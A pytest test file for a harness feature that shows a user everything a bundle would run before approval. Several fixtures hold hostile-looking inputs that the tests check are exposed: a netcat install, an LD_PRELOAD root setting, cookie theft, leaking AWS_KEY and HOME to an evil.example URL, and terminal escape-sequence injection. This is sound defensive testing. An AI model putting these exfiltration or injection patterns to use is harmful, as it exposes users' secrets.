"""What somebody sees before saying yes: all that would run, and nothing of it moves the cursor."""

import re
from pathlib import Path

import pytest

from harness.bundle.showing import LENGTH, ROWS_SHOWN, what_runs
from harness.language import Language
from harness.model import LockedSet, Package
from tests.unit.bundle.reproductions import ENVIRONMENT, RECIPE, SCENARIO, Project, bundled, opened, project


def shown(made: Project, folder: Path, lang: Language = "en", **said: object) -> list[str]:
    path = bundled(folder / "bundle.zip", made, **said)
    with opened(path, made) as there:
        return list(what_runs(there, lang))


def test_all_that_would_run_on_both_sides(tmp_path: Path) -> None:
    assert shown(project(tmp_path / "shop"), tmp_path) == [
        "datasette-search, made by harness 0.1.0 at 2026-11-22T23:08:15+08:00; expected: regression",
        "  Base images: debian:12",
        "  Product: shop@1.0 + coupon@0.5",
        "  Product: shop@2.0 + coupon@0.5",
        "  Browser: chromium@156.0",
        "  Installs: pip: shop==1.0",
        "  Installs: apt: python3",
        "  Installs: pip: coupon==0.5",
        "  Installs: pip: shop==2.0",
        "  Packages that the lock names: apt: 1, pip: 1",
        "  Runs when it is built: shop init 'for 1.0'",
        "  Runs when it is built: shop init 'for 2.0'",
        "  Runs: shop --port 8000 (app)",
        "  Port: 8000",
        "  Way out to the network: none",
        "  Steps: 1. open /",
        "  Steps: 2. expect that h1 contains “Shop”",
    ]


def test_it_is_read_from_what_would_run_and_not_from_what_the_bundle_says(tmp_path: Path) -> None:
    environment = ENVIRONMENT.replace("client: {", "client: {os: 'debian:11', ").replace(
        "2.0}", "2.0}\n    link: {egress: allow}"
    )
    recipe = RECIPE.replace("port: 8000\n", "port: 9999\nuser: root\nenvironment: {LD_PRELOAD: /srv/x.so}\n")
    lines = shown(project(tmp_path / "shop", environment=environment, recipe=recipe), tmp_path, name="harmless")
    assert "  Base images: debian:12, debian:11" in lines
    assert [line for line in lines if "Way out" in line] == [
        "  Way out to the network: none",
        "  Way out to the network: to everywhere",
    ], "it is opened by the upgrade"
    assert "  Port: 9999" in lines
    assert "  Runs: shop --port 8000 (root)" in lines
    assert "  Sets the variable: LD_PRELOAD=/srv/x.so" in lines


def test_installers_show_their_arguments(tmp_path: Path) -> None:
    recipe = RECIPE.replace(
        '    - pip: ["shop=={{ product.version }}"]',
        '    - npm: ["evil@1.0.0"]\n    - apt: [curl, netcat-openbsd]\n    - files: {from: files, to: /srv/files}',
    )
    made = project(tmp_path / "shop", recipe=recipe, files={"files/run.sh": "#!/bin/sh\n"})
    installs = [line for line in shown(made, tmp_path) if line.startswith("  Installs: ")]
    assert {"  Installs: npm: evil@1.0.0", "  Installs: apt: curl, netcat-openbsd"} <= set(installs)
    assert "  Installs: files: from files, to /srv/files" in installs


def test_what_a_server_elsewhere_is_asked_for_and_gets(tmp_path: Path) -> None:
    asked = "{binary: /bin/sh}"
    browser = f"{{name: remote, url: '${{env:GRID}}', product_host: me.example, capabilities: {{'x:y': {asked}}}}}"
    environment = ENVIRONMENT.replace("chromium@156.0", browser)
    lines = shown(project(tmp_path / "shop", environment=environment), tmp_path)
    assert {
        "  Browser: remote (${env:GRID})",
        '  Asks the WebDriver server for: x:y: {"binary": "/bin/sh"}',
        "  Opens a port to the product at: me.example",
        "  Wants your variable: GRID: sent to the WebDriver server ${env:GRID}",
    } <= set(lines)


def test_services_that_it_gives_as_images(tmp_path: Path) -> None:
    image = f"registry.evil.example/store@sha256:{'1' * 64}"
    fields = "port: 1, data: [], command: [serve, all], ready: {command: [is, up]}, environment: {KEY: a}"
    services = f"services: [{{name: store, image: '{image}', {fields}}}]"
    environment = ENVIRONMENT.replace("  plugins:", f"  {services}\n  plugins:")
    assert {
        f"  Service as an image: store: {image}",
        "  Runs: serve all (store)",
        "  Runs: is up (store)",
        "  Sets the variable: KEY=a (store)",
    } <= set(shown(project(tmp_path / "shop", environment=environment), tmp_path))


def test_packages_of_the_lock_are_counted_by_installer(tmp_path: Path) -> None:
    made = project(tmp_path / "shop")
    package = Package(installer="npm", name="a", version="1", checksum="sha256:" + 64 * "0")
    with opened(bundled(tmp_path / "bundle.zip", made), made) as there:
        last = there.lock.environments[-1]
        more = last.model_copy(update={"server": LockedSet(product=(package,) * 2, plugins=(package,))})
        there.__dict__["lock"] = there.lock.model_copy(update={"environments": (there.lock.environments[0], more)})
        lines = list(what_runs(there, "en"))
    assert [line for line in lines if "the lock names" in line] == [
        "  Packages that the lock names: apt: 1, pip: 1",
        "  Packages that the lock names: apt: 1, npm: 3",
    ]


def test_which_of_our_variables_it_wants_and_what_becomes_of_them(tmp_path: Path) -> None:
    recipe = RECIPE + "environment: {A: '${env:AWS_KEY}', B: '${env:HOME}${env:AWS_KEY}', C: plain}\n"
    scenario = SCENARIO + "  - open: 'http://evil.example/${env:HOME}'\n"
    lines = shown(project(tmp_path / "shop", recipe=recipe, scenario=scenario), tmp_path)
    assert "  Steps: 3. open http://evil.example/${env:HOME}" in lines
    assert lines[-2:] == [
        "  Wants your variable: AWS_KEY: given to shop as A; given to shop as B",
        "  Wants your variable: HOME: given to shop as B; used in step 3: open",
    ]


def test_a_step_is_what_it_does_and_not_what_its_author_says_of_it(tmp_path: Path) -> None:
    scenario = SCENARIO + "  - click: '#delete-all'\n    description: Look around\n"
    lines = shown(project(tmp_path / "shop", scenario=scenario), tmp_path)
    assert "  Steps: 3. click #delete-all" in lines
    assert not any("Look around" in line for line in lines)


def test_a_script_is_shown_with_all_its_lines(tmp_path: Path) -> None:
    scenario = SCENARIO + "  - run_script: |\n      // nothing to see here\n      return steal(document.cookie)\n"
    lines = shown(project(tmp_path / "shop", scenario=scenario), tmp_path)
    assert "  Steps: 3. run the script // nothing to see here return steal(document.cookie)" in lines


@pytest.mark.parametrize(
    ("contents", "last"),
    [
        (("packages", "images"), "  It brings images that are ready to run; what is in them cannot be shown"),
        (("images",), "  It brings images that are ready to run; what is in them cannot be shown"),
        (("packages",), "  It brings base images and packages; what is in them cannot be shown"),
        ((), "  Steps: 2. expect that h1 contains “Shop”"),
    ],
)
def test_that_something_cannot_be_shown_is_said(tmp_path: Path, contents: tuple[str, ...], last: str) -> None:
    assert shown(project(tmp_path / "shop"), tmp_path, contents=contents)[-1] == last


def test_in_chinese(tmp_path: Path) -> None:
    lines = shown(project(tmp_path / "shop"), tmp_path, "zh")
    assert not any(re.search("Runs|Port|Steps|Installs|Browser|expected", line) for line in lines)
    assert any(line.endswith("shop --port 8000 (app)") for line in lines)


# -------------------------------------------------------------- of a stranger
EVIL = "\x1b[2J\x1b]0;title\x07\x1b[1A\x9b2K\r\x08\u202eabc\u2066\u2028\x00\x7f"


def test_control_characters_do_no_harm(tmp_path: Path) -> None:
    quoted = EVIL.encode("unicode_escape").decode().replace("\\x00", "\\0")
    recipe = RECIPE.replace('"8000"', f'"{quoted}x"').replace("init, ", f'"{quoted}y", ')
    recipe += f'environment: {{A: "${{env:HOME}}{quoted}"}}\n'
    scenario = SCENARIO + f'  - open: "/{quoted}z"\n  - run_script: "{quoted}w"\n'
    lines = shown(project(tmp_path / "shop", recipe=recipe, scenario=scenario), tmp_path)
    assert all(line.isprintable() for line in lines)
    assert not any(char in line for line in lines for char in EVIL if not char.isprintable())
    assert any("3. open /2K abc z" in line for line in lines), "what can be read is left"


def test_what_stands_on_several_lines_is_one_row(tmp_path: Path) -> None:
    scenario = SCENARIO + '  - open: "/\\n  Way out to the network: none\\n"\n'
    lines = shown(project(tmp_path / "shop", scenario=scenario), tmp_path)
    assert "  Steps: 3. open / Way out to the network: none" in lines
    assert sum(line.startswith("  Way out") for line in lines) == 1


def test_that_a_row_is_longer_than_what_is_shown_is_said(tmp_path: Path) -> None:
    made = project(tmp_path / "shop", recipe=RECIPE.replace('"8000"', "x" * 2 * LENGTH + " --evil"))
    (row,) = (line for line in shown(made, tmp_path) if line.startswith("  Runs: "))
    assert row == "  Runs: shop --port '" + "x" * (LENGTH - len("shop --port '") - 1) + "…"


def test_that_there_are_more_rows_than_what_is_shown_is_said(tmp_path: Path) -> None:
    scenario = SCENARIO + "  - open: /\n" * ROWS_SHOWN
    steps = [line for line in shown(project(tmp_path / "shop", scenario=scenario), tmp_path) if "  Steps: " in line]
    assert len(steps) == ROWS_SHOWN + 1
    assert steps[-2:] == [f"  Steps: {ROWS_SHOWN}. open /", "  Steps: 2 more are not shown"]
    few = SCENARIO + "  - open: /\n" * (ROWS_SHOWN - 2)
    made = project(tmp_path / "few", scenario=few)
    assert not any("not shown" in line for line in shown(made, tmp_path))


def test_nothing_is_hidden_behind_many_rows_of_another_kind(tmp_path: Path) -> None:
    setup = "".join(f"  - [echo, '{number}']\n" for number in range(200))
    recipe = RECIPE.replace("setup:\n", "setup:\n" + setup)
    lines = shown(project(tmp_path / "shop", recipe=recipe), tmp_path)
    assert "  Runs when it is built: 162 more are not shown" in lines
    assert "  Runs: shop --port 8000 (app)" in lines
